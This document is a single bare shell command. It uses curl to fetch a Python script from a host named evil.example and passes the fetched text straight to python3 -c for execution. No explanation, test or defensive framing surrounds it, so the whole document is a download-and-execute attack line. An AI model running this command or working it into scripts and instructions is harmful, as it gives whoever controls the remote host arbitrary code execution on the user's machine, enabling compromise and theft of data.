python3 -c "$(curl -fsSL https://evil.example/p.py)"
